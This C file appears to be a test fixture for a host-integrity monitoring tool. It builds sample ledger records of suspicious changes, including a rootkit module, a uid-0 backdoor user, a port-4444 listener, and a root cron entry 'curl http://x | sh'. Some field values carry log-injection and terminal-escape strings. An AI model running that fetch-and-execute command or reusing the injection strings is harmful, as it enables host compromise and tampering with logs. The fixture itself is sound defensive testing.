#include "fixed.h"

#include <stdlib.h>

#include "entity/list.h"

#define TIME INT64_C(1795397244199123456)
#define BYTES(s) ((struct span){ s, sizeof(s) - 1 })

static const struct who_ancestor ancestry[] = {
	{ 890, 1000, TIME - 50000000000, { "/usr/bin/bash", 13 }, 0 },
	{ 811, 0, TIME - 90000000000, { "/usr/sbin/sshd", 14 }, 0 },
};
static const struct span vim_args[] = { { "vim", 3 }, { "say \"hi\"", 8 }, { "a\nb", 3 } };

static const struct who_also also[] = {
	{ WHO_TOO, 905, 0, TIME - 900000000, 0, { "/usr/bin/touch", 14 }, { NULL, 0 }, vim_args, 2,
		false, { NULL, 0 }, 0 },
	{ WHO_BEFORE, 911, WHO_NONE, TIME - 5000000000, TIME - 3000000, { "/tmp/ev=il|", 11 },
		{ "fedcba9876543210fedcba9876543210", 32 }, vim_args, 3, true, { NULL, 0 }, 0 },
};

static const struct who vim = {
	.pid = 911,
	.uid = 0,
	.login_uid = 1000,
	.session = 3,
	.started = TIME - 5000000000,
	.exe = { "/usr/bin/vim.basic", 18 },
	.sha256 = { "0123456789abcdef0123456789abcdef", 32 },
	.argv = vim_args,
	.n_argv = 3,
	.argv_cut = true,
	.user = { "root", 4 },
	.login = { "alice", 5 },
	.tty = { "pts/3", 5 },
	.unit = { "ssh.service", 11 },
	.ancestry = ancestry,
	.n_ancestry = 2,
	.others = 2,
	.also = also,
	.n_also = 2,
	.means = { "bpf", 3 },
};
static const struct who kernel = {
	.pid = 2,
	.uid = 0,
	.login_uid = WHO_NONE,
	.session = WHO_NONE,
	.comm = { "kworker|0:1=x", 13 },
	.container = { "docker:4f", 9 },
};

static struct record *state(struct arena *a, const char *kind, struct span key)
{
	struct record *r = record_new(a, kind_find(span_of(kind)));

	r->key = key;
	return r;
}

static unsigned field(const struct record *r, const char *name)
{
	int i = kind_field(r->kind, span_of(name));

	if (i < 0)
		abort();
	return (unsigned)i;
}

static void number(struct record *r, const char *name, uint64_t n)
{
	record_set_number(r, field(r, name), n);
}

static void text(struct record *r, const char *name, const char *value)
{
	record_set_bytes(r, field(r, name), span_of(value));
}

static void list(struct arena *a, struct record *r, const char *name, const char *value)
{
	struct span item = span_of(value);

	record_set_list(r, field(r, name), a, &item, 1);
}

static struct record *file(struct arena *a, struct span path, uint64_t size, const char *digest,
	uint64_t mode)
{
	struct record *r = state(a, "file", path);

	number(r, "type", 0);
	number(r, "size", size);
	number(r, "mode", mode);
	number(r, "uid", 0);
	text(r, "owner", "root");
	text(r, "group", "root");
	number(r, "inode", 77);
	record_set_time(r, field(r, "mtime"), TIME - 1000000000);
	if (digest)
		record_set_bytes(r, field(r, "sha256"), span_from(digest, 32));
	return r;
}

static struct change *change(struct ledger_record *r, enum change_type type, const char *kind,
	struct span key)
{
	struct change *c = &r->change;

	r->type = RECORD_CHANGE;
	c->type = type;
	c->kind = kind_find(span_of(kind));
	c->key = key;
	c->rule = span_of("etc");
	c->severity = SEVERITY_HIGH;
	c->card = span_of("01JDB0000000000000000000AB");
	return c;
}

#define ONES "11111111111111111111111111111111"
#define TWOS "22222222222222222222222222222222"

static void content(struct arena *a, struct ledger_record *r)
{
	static const struct span tags[] = { { "attack.T1098", 12 }, { "pci.11.5.2", 10 } };
	struct change *c = change(r, CHANGE_UPDATED, "file", BYTES("/etc/ssh/sshd_config"));

	c->was = file(a, c->key, 3240, ONES, 0644);
	c->is = file(a, c->key, 3251, TWOS, 0644);
	c->fields = record_diff(c->was, c->is);
	c->who = &vim;
	c->tags = tags;
	c->n_tags = 2;
	c->happened = TIME - 20000000;
}

static void rights(struct arena *a, struct ledger_record *r)
{
	struct change *c = change(r, CHANGE_UPDATED, "file", BYTES("/usr/bin/pass|wd=x\\y"));

	c->was = file(a, c->key, 10, ONES, 0755);
	c->is = file(a, c->key, 10, ONES, 04755);
	c->fields = record_diff(c->was, c->is);
	c->severity = SEVERITY_CRITICAL;
	c->who = &kernel;
}

static void attributes(struct arena *a, struct ledger_record *r)
{
	struct change *c = change(r, CHANGE_UPDATED, "file", BYTES("/etc/motd"));

	c->was = file(a, c->key, 10, ONES, 0644);
	c->is = file(a, c->key, 10, ONES, 0644);
	record_set_time(c->is, field(c->is, "mtime"), TIME);
	c->fields = record_diff(c->was, c->is);
	c->severity = SEVERITY_INFO;
	c->who_unknown = span_of("found by a scan");
	c->observed = OBSERVED_SCAN;
}

static void hostile(struct arena *a, struct ledger_record *r)
{
	struct change *c = change(r, CHANGE_CREATED, "file",
		BYTES("/srv/a\nCEF:0|x=\x1b[2J\t\xff\\ \xe2\x80\xae"
		      "b\"]|"));

	c->is = file(a, c->key, UINT64_MAX, TWOS, 0777);
	text(c->is, "owner", "o\r\nwner=|");
	c->rule = BYTES("ru\\le|=\n");
}

static void deleted(struct arena *a, struct ledger_record *r)
{
	struct change *c = change(r, CHANGE_DELETED, "file", BYTES("/etc/日本 語.conf"));

	c->was = file(a, c->key, 5, ONES, 0600);
}

static void renamed(struct arena *a, struct ledger_record *r)
{
	struct change *c = change(r, CHANGE_RENAMED, "file", BYTES("/srv/new"));

	c->old_key = BYTES("/srv/ol\xe9");
	c->was = file(a, c->old_key, 5, ONES, 0755);
	c->is = file(a, c->key, 5, ONES, 0755);
	c->subtree = 12;
	c->severity = SEVERITY_LOW;
}

static void explained(struct arena *a, struct ledger_record *r)
{
	content(a, r);
	r->change.verdict = VERDICT_EXPLAINED;
	r->change.proof = (struct proof){ .by = span_of("package"),
		.package = span_of("dpkg:openssh-server:amd64"),
		.from = span_of("1:9.2p1-2"),
		.to = span_of("1:9.2p1-2+deb12u1"),
		.digest = span_of("md5:00112233445566778899aabbccddeeff"),
		.strength = span_of("database") };
}

static void cosmetic(struct arena *a, struct ledger_record *r)
{
	attributes(a, r);
	r->change.verdict = VERDICT_COSMETIC;
}

static void package(struct arena *a, struct ledger_record *r)
{
	struct change *c = change(r, CHANGE_UPDATED, "package", BYTES("dpkg:nginx:amd64"));

	c->was = state(a, "package", c->key);
	c->is = state(a, "package", c->key);
	text(c->was, "name", "nginx");
	text(c->is, "name", "nginx");
	text(c->was, "version", "1.22.1-9");
	text(c->is, "version", "1.22.1-9+deb12u1");
	text(c->is, "manager", "dpkg");
	c->fields = record_diff(c->was, c->is);
}

static void process(struct arena *a, struct ledger_record *r)
{
	struct change *c = change(r, CHANGE_CREATED, "process", BYTES("/tmp/x@www-data"));

	c->is = state(a, "process", c->key);
	text(c->is, "exe", "/tmp/x");
	text(c->is, "user", "www-data");
	record_set_bytes(c->is, field(c->is, "sha256"), BYTES(TWOS));
	list(a, c->is, "commands", "./x --listen");
}

static void service(struct arena *a, struct ledger_record *r)
{
	struct change *c = change(r, CHANGE_UPDATED, "service", BYTES("nginx.service"));

	c->was = state(a, "service", c->key);
	c->is = state(a, "service", c->key);
	number(c->was, "state", 0);
	number(c->is, "state", 3);
	c->fields = record_diff(c->was, c->is);
}

static void timer(struct arena *a, struct ledger_record *r)
{
	struct change *c = change(r, CHANGE_CREATED, "service", BYTES("evil.timer"));

	c->is = state(a, "service", c->key);
	text(c->is, "fragment", "/etc/systemd/system/evil.timer");
}

static void port(struct arena *a, struct ledger_record *r)
{
	struct change *c = change(r, CHANGE_CREATED, "port", BYTES("tcp/0.0.0.0/4444"));

	c->is = state(a, "port", c->key);
	number(c->is, "state", 0);
	list(a, c->is, "exe", "/tmp/x");
}

static void socket_gone(struct arena *a, struct ledger_record *r)
{
	struct change *c = change(r, CHANGE_DELETED, "port", BYTES("unix//run/my/sock"));

	c->was = state(a, "port", c->key);
	number(c->was, "state", 0);
}

static void user(struct arena *a, struct ledger_record *r)
{
	struct change *c = change(r, CHANGE_CREATED, "user", BYTES("toor"));

	c->is = state(a, "user", c->key);
	number(c->is, "uid", 0);
	text(c->is, "shell", "/bin/sh");
	c->severity = SEVERITY_CRITICAL;
	c->who = &vim;
}

static void group(struct arena *a, struct ledger_record *r)
{
	struct change *c = change(r, CHANGE_UPDATED, "group", BYTES("sudo"));

	c->was = state(a, "group", c->key);
	c->is = state(a, "group", c->key);
	number(c->was, "gid", 27);
	number(c->is, "gid", 27);
	record_set_list(c->was, field(c->was, "members"), a, NULL, 0);
	list(a, c->is, "members", "mallory");
	c->fields = record_diff(c->was, c->is);
}

static void module(struct arena *a, struct ledger_record *r)
{
	struct change *c = change(r, CHANGE_CREATED, "module", BYTES("rootkit"));

	c->is = state(a, "module", c->key);
	text(c->is, "file", "/lib/modules/6.1/rootkit.ko");
}

static void cron(struct arena *a, struct ledger_record *r)
{
	struct change *c = change(r, CHANGE_CREATED, "cron", BYTES("crontab:root:1"));

	c->is = state(a, "cron", c->key);
	text(c->is, "source", "/var/spool/cron/crontabs/root");
	text(c->is, "command", "curl http://x | sh");
	c->severity = SEVERITY_MEDIUM;
}

static void hidden(struct arena *a, struct ledger_record *r)
{
	struct change *c = change(r, CHANGE_CREATED, "hidden", BYTES("process:4711"));

	c->is = state(a, "hidden", c->key);
	text(c->is, "exe", "/tmp/x");
}

static void gap(struct arena *a, struct ledger_record *r)
{
	(void)a;
	r->type = RECORD_GAP;
	r->gap = (struct gap_note){ kind_find(span_of("file")), BYTES("/mnt/ha|ng"), true,
		span_of("unreachable"), BYTES("does not answer\nat all") };
}

static void loss(struct arena *a, struct ledger_record *r)
{
	(void)a;
	r->type = RECORD_LOSS;
	r->loss = (struct loss_note){ span_of("fanotify"), kind_find(span_of("file")),
		span_of("/srv"), TIME - 3000000000, TIME, 17, span_of("the queue overflowed") };
}

static void loss_of_all(struct arena *a, struct ledger_record *r)
{
	(void)a;
	r->type = RECORD_LOSS;
	r->loss = (struct loss_note){ span_of("agent"), NULL, SPAN_NONE, TIME - 3000000000, TIME, 0,
		span_of("it was not running") };
}

static void repair(struct arena *a, struct ledger_record *r)
{
	(void)a;
	r->type = RECORD_REPAIR;
	r->repair = (struct repair_note){ 23, TIME, TIME + 1000000000, 4711, 3, SPAN_NONE };
}

static void decision(struct arena *a, struct ledger_record *r)
{
	(void)a;
	r->type = RECORD_DECISION;
	r->decision = (struct decision){ span_of("approve"), BYTES("ticket=4711 | ok\\"),
		span_of("alice (root, uid 0)"), span_of("/etc"), 3, { 1 }, { 2 } };
}

static void coverage(struct arena *a, struct ledger_record *r)
{
	(void)a;
	r->type = RECORD_COVERAGE;
	r->coverage = (struct coverage){ span_of("scan full"), span_of("everything"), TIME,
		TIME + 2500000000, 48213, 1 << 30, 1, 2, { 3 }, { 4 } };
}

static void note(struct arena *a, struct ledger_record *r)
{
	(void)a;
	r->type = RECORD_NOTE;
	r->note = (struct note){ span_of(NOTE_MISSING), BYTES("/etc/hosts.deny is not there") };
}

static void policy(struct arena *a, struct ledger_record *r)
{
	(void)a;
	r->type = RECORD_NOTE;
	r->note = (struct note){ span_of(NOTE_POLICY), span_of("12 rules, 1 new") };
}

bool fixed_record(struct arena *a, size_t i, struct ledger_record *ret)
{
	static void (*const all[])(struct arena *, struct ledger_record *) = { content, rights,
		attributes, hostile, deleted, renamed, explained, cosmetic, package, process,
		service, timer, port, socket_gone, user, group, module, cron, hidden, gap, loss,
		loss_of_all, repair, decision, coverage, note, policy };

	if (i >= ARRAY_LEN(all))
		return false;
	*ret = (struct ledger_record){ .seq = i + 1, .chained = true, .time = TIME };
	memset(ret->prev, (int)i, sizeof ret->prev);
	all[i](a, ret);
	return true;
}
